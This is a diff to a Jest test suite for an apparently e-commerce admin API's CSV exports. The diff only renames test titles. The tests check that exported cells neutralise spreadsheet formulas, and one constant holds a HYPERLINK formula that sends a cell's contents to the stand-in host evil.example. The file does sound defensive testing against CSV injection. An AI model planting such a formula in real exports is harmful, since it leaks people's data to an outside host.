@@ -6,7 +6,7 @@ import { ProductImport } from '../product/product-import';
 const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Click")';
 const HARMLESS = '"\'=HYPERLINK(""https://evil.example?""&A1,""Click"")"';
 
-describe('exports', () => {
+describe('CSV exports', () => {
   let test: TestApp;
   let admin: Person;
   beforeAll(async () => {
@@ -28,7 +28,7 @@ describe('exports', () => {
     ['orders', ['id', 'orderId', 'status', 'total'], [HARMLESS, "'@carla", '10.00']],
     ['users', ['id', 'username', 'orderCount'], ['true']],
     ['messages', ['kind', 'id', 'message'], [HARMLESS, '"\'-1\n""quoted"""']],
-  ])('of %s are downloads without a formula', async (name, columns, cells) => {
+  ])('are downloads without a formula: %s', async (name, columns, cells) => {
     const response = await get(`${name}/csv`);
     expect(response).toMatchObject({
       status: 200,
@@ -51,7 +51,7 @@ describe('exports', () => {
   it.each([
     ...['products', 'orders', 'users', 'messages'].map((name) => `/api/admin/${name}/csv`),
     ...['json', 'html'].map((type) => `/api/users/me/data/export/1/${type}`),
-  ])('at %s may take ten minutes', async (path) => {
+  ])('may take ten minutes at %s', async (path) => {
     const timers = jest.spyOn(globalThis, 'setTimeout');
     await admin.client.get(path);
     const times = timers.mock.calls.map(([, ms]) => ms);
@@ -59,7 +59,7 @@ describe('exports', () => {
     expect(times).toContain(10 * 60_000);
   });
 
-  it('contain every row of the filter once', async () => {
+  it('contain every row that matches the filter exactly once', async () => {
     const many = Array.from({ length: 1_500 }, (_, index) => sampleProduct({ title: `Row ${index}`, category: 'bot' }));
     await new ProductImport(new Transactions(test.dataSource)).insert(many);
     const bots = (await get('products/csv?category=bot&q=Row')).text.trim().split('\r\n').slice(1);
